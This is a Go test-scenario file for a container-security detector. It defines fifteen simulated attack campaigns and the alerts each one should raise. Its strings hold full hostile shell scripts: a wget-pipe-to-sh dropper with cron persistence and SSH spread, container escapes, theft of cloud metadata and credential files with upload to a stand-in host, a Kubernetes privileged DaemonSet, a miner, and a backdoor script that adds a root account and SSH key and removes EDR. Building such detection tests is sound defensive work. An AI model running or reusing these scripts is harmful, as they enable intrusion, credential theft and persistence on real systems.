package scenarios

import (
	"encoding/base64"
	"fmt"
	"runtime"
	"strings"

	"github.com/sallyport-dev/sallyport/report"
	"github.com/sallyport-dev/sallyport/test/samples"
)

const (
	execution     = report.InitialExecution
	weaponization = report.Weaponization
	propagation   = report.Propagation
	communication = report.Communication
	exfiltration  = report.Exfiltration
)

// wallet has the shape of an address and is that of a charity, which nobody is
// paid to here.
const wallet = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"

// minerSettings are words that a miner's program holds.
const minerSettings = `{"algo":"rx/0","coin":"monero","url":"stratum+tcp://pool.supportxmr.com:3333","donate-level":1,"randomx":{"1gb-pages":true}} mining.authorize cryptonight`

// strangersKey belongs to nobody.
const strangersKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJ1aWx0LWZvci1hLXNhbXBsZS1vZi1zYWxseXBvcnQhISE= root@nowhere"

// campaigns are what was done to and by containers, after reports of the last
// years, each shortened to a few seconds.
func campaigns() []Scenario {
	return []Scenario{
		typosquatMiner(), pipeToShell(), dockerWorm(), hostEscapeCron(), escapeCollection(), goReverseShell(), filelessThread(),
		credentialThief(), clusterAbuse(), preloadRootkit(), ircBot(), webhookThief(), timeBomb(), portBackdoor(), wipeAndHide(),
	}
}

func typosquatMiner() Scenario {
	image := script("/app/dao.py", `mkdir -p /tmp/.dao
cp /usr/share/.cache/xmrig /tmp/.dao/xmrig
cd /tmp/.dao
./xmrig -o pool.supportxmr.com:3333 -u `+wallet+` -p x --donate-level 1
`)
	image.Built["/usr/share/.cache/xmrig"] = samples.Built{Package: player.Package, Tail: minerSettings}
	return ill("a01-typosquat-miner", "An image with a trusted name starts a miner that lies hidden in a layer.", image,
		by(found(execution, "miner-binary", "xmrig"), "/app/dao.py", "xmrig"),
		by(found(execution, "miner-cmdline", "pool.supportxmr.com:3333", wallet), "/app/dao.py", "xmrig"),
		found(exfiltration, "mining-pool-dns", "pool.supportxmr.com"),
		worse(report.Critical, by(found(exfiltration, "mining-protocol", "pool.supportxmr.com"), "/app/dao.py", "xmrig")),
	).repeated()
}

func pipeToShell() Scenario {
	image := samples.Spec{Entrypoint: []string{"/bin/sh", "-c", `apt-get update -q; crond; wget -q -O - http://198.18.7.9/d.sh | sh; tail -f /dev/null`}}
	image.Links = map[string]string{"/usr/sbin/crond": "/bin/busybox"}
	image = files(with(image, "/usr/bin/ssh"), map[string]string{
		"/usr/bin/apt-get": "#!/bin/sh\nwget -q -O /dev/null http://deb.debian.org/debian/dists/bookworm/InRelease\nexit 0\n",
	})
	return ill("a02-pipe-to-shell", "A shell pipes a script from an address into itself; that kills rivals, wipes logs, fetches a program, plants a task, and goes on by SSH.", image,
		by(found(execution, "pipe-download-shell", "198.18.7.9"), "/bin/dash", "/bin/dash"),
		found(weaponization, "rival-kill", "watchbog"),
		worse(report.Medium, found(weaponization, "log-wipe", "/var/log/wtmp", "/var/log/btmp")),
		found(execution, "ingress-exec-marker", "198.18.7.9", "/tmp/kinsing"),
		by(found(execution, "drift-exec-elf", "/tmp/kinsing"), "sh", "/tmp/kinsing"),
		found(weaponization, "cron-persistence", "198.18.7.9"),
		found(propagation, "ssh-target-harvest", "known_hosts", ".ssh/config"),
		by(found(propagation, "ssh-spread", "203.0.113."), "sh", "sh", "ssh"),
	).served(map[string]Served{"http://198.18.7.9/d.sh": {Text: dropperScript}, "http://198.18.7.9/spre.sh": {Text: spreadScript}})
}

// The scripts of the reports on Kinsing, as far as they harm nobody.
const (
	dropperScript = `for rival in kdevtmpfsi watchbog ddgs minerd sysrv cryptonight xmr-stak networkservice; do
	killall -9 $rival
done
crontab -r
: > /var/log/wtmp
: > /var/log/btmp
wget -q -O /tmp/kinsing http://198.18.7.9/kinsing
chmod 777 /tmp/kinsing
/tmp/kinsing &
mkdir -p /var/spool/cron/crontabs
echo '* * * * * wget -q -O - http://198.18.7.9/d.sh | sh > /dev/null 2>&1' >> /var/spool/cron/crontabs/root
wget -q -O - http://198.18.7.9/spre.sh | sh
wait
`
	spreadScript = `cat /root/.ssh/known_hosts /root/.ssh/config /root/.bash_history /root/.ssh/id_ed25519 > /tmp/.h 2>/dev/null
for host in 203.0.113.21 203.0.113.22 203.0.113.23; do
	ssh -o StrictHostKeyChecking=no -o BatchMode=yes -i /root/.ssh/id_ed25519 root@$host 'wget -q -O - http://198.18.7.9/d.sh | sh'
done
`
)

func dockerWorm() Scenario {
	image := with(samples.Spec{Entrypoint: []string{"/usr/bin/nginx", "docker-worm"}}, "/usr/bin/nginx")
	return ill("a03-docker-worm", "A program takes addresses from its master, looks for open Docker engines, starts containers there, and calls home between bursts of mining.", image,
		worse(report.High, found(propagation, "scan-horizontal", ":2375")),
		by(found(propagation, "docker-api-spread", "containers/create", "198.18.120."), "docker-worm"),
	).served(map[string]Served{"http://c2.graboid.test/list.txt": {Text: addresses("198.18.120", 60)}})
}

// addresses is a list of n of a network, a line each.
func addresses(network string, n int) string {
	var list strings.Builder
	for i := range n {
		fmt.Fprintf(&list, "%s.%d\n", network, 1+i)
	}
	return list.String()
}

func hostEscapeCron() Scenario {
	image := script("/entrypoint.sh", `for d in /host /hostfs /mnt/host; do ls $d; done
mount /dev/sda1 /mnt
mkdir -p /mnt/etc/cron.d
echo '* * * * * root /tmp/x' > /mnt/etc/cron.d/x
chroot /mnt sh -c id
chroot /host sh -c id
exec /usr/bin/updater dead-drop
`, "/usr/bin/updater")
	return ill("a04-host-escape-cron", "An image tries to mount the host's disk, plants a task there, and learns where its master is from a block chain.", image,
		by(found(weaponization, "escape-mount-device", "/dev/sda1"), "/entrypoint.sh", "mount"),
		by(found(weaponization, "escape-chroot-host", "chroot /host"), "/entrypoint.sh", "chroot"),
		by(found(communication, "dead-drop", "dogechain.info", ".dyndns.test"), "dead-drop"),
		found(communication, "dyn-tunnel-host", ".dyndns.test"),
	).repeated()
}

func escapeCollection() Scenario {
	image := script("/usr/local/bin/docker-entrypoint.sh", `mkdir /tmp/cgrp
mount -t cgroup -o memory cgroup /tmp/cgrp
mkdir -p /tmp/cgrp/x
echo 1 > /tmp/cgrp/x/notify_on_release
host_path=$(sed -n 's/.*\perdir=\([^,]*\).*/\1/p' /proc/mounts)
echo "$host_path/cmd" > /tmp/cgrp/release_agent
sh -c 'echo $$ > /tmp/cgrp/x/cgroup.procs'
echo "|$host_path/cmd %p" > /proc/sys/kernel/core_pattern
nsenter -t 1 -m -u -n -i sh -c id
if [ -S /var/run/docker.sock ]; then
	curl -s --unix-socket /var/run/docker.sock -X POST -H 'Content-Type: application/json' -d '{"Image":"alpine","HostConfig":{"Binds":["/:/host"],"Privileged":true}}' http://localhost/containers/create
fi
exit 0
`, "/usr/bin/curl")
	return ill("a05-escape-collection", "A script tries one way out of the container after the other.", image,
		by(found(weaponization, "escape-cgroup-agent", "/tmp/cgrp/release_agent"), "docker-entrypoint.sh"),
		found(weaponization, "escape-core-pattern", "/proc/sys/kernel/core_pattern"),
		by(found(weaponization, "escape-nsenter-init", "nsenter -t 1"), "docker-entrypoint.sh", "nsenter"),
	)
}

func goReverseShell() Scenario {
	image := script("/entrypoint.sh", "echo starting\nsleep 5\nexec /usr/local/bin/app reverse-shell 203.0.113.50:4444\n", "/usr/local/bin/app")
	return ill("a06-reverse-shell", "After a few seconds a program becomes a shell for somebody at an address.", image,
		by(found(execution, "reverse-shell", "203.0.113.50:4444", "/bin/sh -i"), "/bin/sh -i"),
		found(communication, "direct-ip-egress", "203.0.113.50:4444"),
	).repeated()
}

func filelessThread() Scenario {
	image := with(samples.Spec{Entrypoint: []string{"/usr/bin/app", "fileless"}}, "/usr/bin/app")
	return ill("a07-fileless-thread", "A program that was never a file runs as a thread of the kernel, while another calls home within TLS.", image,
		by(found(execution, "memfd-exec", "memfd:kworker"), "fileless", "kworker"),
		found(weaponization, "masq-kthread", "[kworker/0:1]"),
		found(execution, "ingress-exec-marker", "198.18.7.12"),
	)
}

func credentialThief() Scenario {
	image := script("/entrypoint.sh", `for port in 8080 8081 8082; do app webserver $port & done
md=http://169.254.169.254/latest
t=$(curl -s -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600' $md/api/token)
role=$(curl -s -H "X-aws-ec2-metadata-token: $t" $md/meta-data/iam/security-credentials/)
curl -s -H "X-aws-ec2-metadata-token: $t" $md/meta-data/iam/security-credentials/$role > /tmp/.c.txt
curl -s "http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI" >> /tmp/.c.txt
cat ~/.aws/credentials ~/.aws/config ~/.config/gcloud/credentials.db ~/.docker/config.json ~/.kube/config ~/.git-credentials ~/.npmrc ~/.ssh/id_ed25519 >> /tmp/.c.txt 2>/dev/null
cat /proc/*/environ >> /tmp/.c.txt 2>/dev/null
find / -name '*.tfstate' -not -path '/proc/*' 2>/dev/null >> /tmp/.c.txt
tar -czf /tmp/.c.tgz -C / tmp/.c.txt root/.aws root/.ssh root/.docker
curl -s -F "file=@/tmp/.c.tgz" http://upload.test/in.php
curl -s -d @/tmp/.c.txt http://upload.test/in.php
kill %1 %2 %3
`, "/usr/bin/curl", "/usr/bin/app")
	return ill("a08-credential-thief", "A script asks the cloud for its keys, gathers what lies about, and uploads it.", image,
		by(found(weaponization, "cred-harvest", ".aws/credentials", ".docker/config.json"), "/entrypoint.sh", "cat"),
		found(weaponization, "environ-harvest", "environ"),
		by(found(weaponization, "imds-access", "169.254.169.254"), "/entrypoint.sh", "curl"),
		found(exfiltration, "archive-upload", "upload.test", ".c.tgz"),
		by(worse(report.Critical, found(exfiltration, "canary-exfil", "upload.test")), "/entrypoint.sh", "curl"),
	).repeated()
}

func clusterAbuse() Scenario {
	image := script("/entrypoint.sh", `mkdir -p /tmp/.k8s
gzip -dc /opt/kubectl.gz > /tmp/.k8s/kubectl
chmod +x /tmp/.k8s/kubectl
token=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
/tmp/.k8s/kubectl --token "$token" get secrets -A > /tmp/.k8s/secrets
/tmp/.k8s/kubectl --token "$token" apply -f /opt/ds.yaml
exec /usr/bin/node-helper kube-worm
`, "/usr/bin/node-helper")
	image.Built["/opt/kubectl.gz"] = samples.Built{Package: player.Package, Gzip: true}
	image = files(image, map[string]string{"/opt/ds.yaml": `{"apiVersion":"apps/v1","kind":"DaemonSet","metadata":{"name":"node-helper"},"spec":{"template":{"spec":{"hostPID":true,"hostNetwork":true,` +
		`"containers":[{"name":"c","image":"alpine","command":["nsenter","-t","1","-m","sh"],"securityContext":{"privileged":true},"volumeMounts":[{"name":"h","mountPath":"/host"}]}],"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}}}`})
	return ill("a09-cluster-abuse", "A script takes the pod's token to list all secrets and to put a privileged pod on each node; then its worm looks for open kubelets.", image,
		worse(report.Medium, by(found(weaponization, "sa-token-read", "serviceaccount/token"), "/entrypoint.sh", "cat")),
		by(found(propagation, "kube-spread", "secrets", "daemonsets"), "/entrypoint.sh", "/tmp/.k8s/kubectl"),
		found(propagation, "kube-spread", ":10250", "/run/"),
		found(propagation, "scan-horizontal", ":10250"),
		found(execution, "drift-exec-elf", "/tmp/.k8s/kubectl"),
	)
}

func preloadRootkit() Scenario {
	hook, err := library(runtime.GOARCH, "readdir", "readdir64")
	if err != nil {
		panic(err) // no CPU that this runs on
	}
	image := script("/entrypoint.sh", `mkdir -p /usr/local/lib
cd /usr/local/lib
gzip -dc /opt/.cache/lib.bin > libprocesshider.so
chmod 755 libprocesshider.so
echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload
mkdir -p /var/lib/misc
cp /usr/bin/helper /var/lib/misc/.w
/var/lib/misc/.w pose crond worker 203.0.113.55:443
exit 0
`, "/usr/bin/helper")
	packed, err := gzipped(hook)
	if err != nil {
		panic(err) // in memory: cannot fail
	}
	image = files(image, map[string]string{"/opt/.cache/lib.bin": packed})
	return ill("a10-preload-rootkit", "A library that hides processes is put into every program, then a worker starts under a service's name.", image,
		found(weaponization, "ld-preload-file", "/etc/ld.so.preload"),
		found(weaponization, "process-hide", "/usr/local/lib/libprocesshider.so", "readdir"),
		by(found(weaponization, "masq-daemon", "/var/lib/misc/.w", "crond"), "/entrypoint.sh", "crond"),
	)
}

func ircBot() Scenario {
	image := script("/entrypoint.sh", `cd /tmp
for a in x86 i686 mips mipsel arm7 ppc sh4 x86_64 aarch64; do
	wget -q -O .$a http://198.18.7.20/bins/kaiten.$a
	chmod 777 .$a
	./.$a bot irc.kaiten.test:6667
	rm -f .$a
done
exit 0
`)
	mine := map[string]string{"amd64": "x86_64", "arm64": "aarch64"}[runtime.GOARCH]
	return ill("a11-irc-bot", "A script fetches a bot for every CPU, runs what runs, and the bot takes orders in a channel.", image,
		found(execution, "multiarch-download", "198.18.7.20", "kaiten.mips"),
		by(found(execution, "drift-exec-elf", "/tmp/."+mine), "/entrypoint.sh", "/tmp/."+mine),
		by(found(communication, "irc-c2", "irc.kaiten.test"), "/entrypoint.sh", "/tmp/."+mine),
	).served(map[string]Served{"http://198.18.7.20/bins/kaiten." + mine: {Program: player}})
}

func webhookThief() Scenario {
	image := with(samples.Spec{Entrypoint: []string{"/usr/bin/python3", "-c", inline("leak")}}, "/usr/bin/python3")
	return ill("a12-webhook-thief", "An interpreter runs encoded code that posts secrets to one chat and takes orders from another.", image,
		found(execution, "interp-inline-encoded", "b64decode"),
		worse(report.Critical, found(exfiltration, "canary-exfil", "discord.com")),
		found(weaponization, "cred-harvest", ".npmrc", ".git-credentials"),
		found(communication, "chat-c2", "api.telegram.org"),
	).repeated()
}

// inline is Python code that decodes what it does.
func inline(role string) string {
	code := "# " + role + strings.Repeat("\n", 200) // of a length that no setting has
	return "import base64;exec(base64.b64decode('" + base64.StdEncoding.EncodeToString([]byte(code)) + "').decode())"
}

func timeBomb() Scenario {
	image := script("/entrypoint.sh", "/usr/local/bin/app webserver 8080 &\nsleep 600\nexec /usr/local/bin/app reverse-shell 203.0.113.50:4444\n", "/usr/local/bin/app")
	image.Ports = []string{"8080/tcp"}
	return ill("a13-time-bomb", "A polite web server for ten minutes, then a shell for somebody.", image,
		found(weaponization, "time-bomb", "sleep 600"),
		by(found(execution, "reverse-shell", "203.0.113.50:4444"), "/bin/sh -i"),
	).repeated()
}

func portBackdoor() Scenario {
	image := with(samples.Spec{Entrypoint: []string{"/usr/bin/app", "backdoor"}, Ports: []string{"8080/tcp"}}, "/usr/bin/app")
	return ill("a14-port-backdoor", "A web server that gives a shell to whoever presses return at another port.", image,
		by(found(execution, "bind-shell", "/bin/sh", "31337"), "backdoor", "/bin/sh"),
	)
}

func wipeAndHide() Scenario {
	text := wipeScript
	for range 3 {
		text = base64.StdEncoding.EncodeToString([]byte(text))
	}
	image := script("/entrypoint.sh", "echo "+text+" | base64 -d | base64 -d | base64 -d | sh\n", "/usr/lib/helper")
	image.Programs = []string{"chattr"}
	return ill("a15-wipe-and-hide", "A script that was encoded three times hides a program, opens doors for later, and removes its traces.", image,
		by(found(execution, "pipe-decode-shell", "base64"), "/entrypoint.sh", "sh"),
		by(found(execution, "hidden-path-exec", "/tmp/.xdiag/.../sh"), "/tmp/.xdiag/.../sh"),
		found(execution, "deleted-exec", "/tmp/.xdiag/.../sh"),
		found(weaponization, "account-backdoor", "NOPASSWD"),
		found(weaponization, "ssh-key-backdoor", "/root/.ssh/authorized_keys"),
		found(weaponization, "log-wipe", "history", "/var/log/wtmp"),
		found(weaponization, "security-disable", "falcon"),
	)
}

const wipeScript = `mkdir -p '/tmp/.xdiag/...'
cp /usr/lib/helper '/tmp/.xdiag/.../sh'
'/tmp/.xdiag/.../sh' worker 203.0.113.56:443 &
sleep 0.5
rm -f '/tmp/.xdiag/.../sh'
echo 'sysall:x:0:0::/root:/bin/sh' >> /etc/passwd
mkdir -p /etc/sudoers.d /root/.ssh
echo 'sysall ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/sysall
echo '` + strangersKey + `' >> /root/.ssh/authorized_keys
chattr +i /root/.ssh/authorized_keys
: > /var/log/wtmp
rm -f /root/.bash_history /root/.ash_history
ln -s /dev/null /root/.bash_history
killall -9 falcon-sensor
rm -rf /opt/CrowdStrike
wait
`
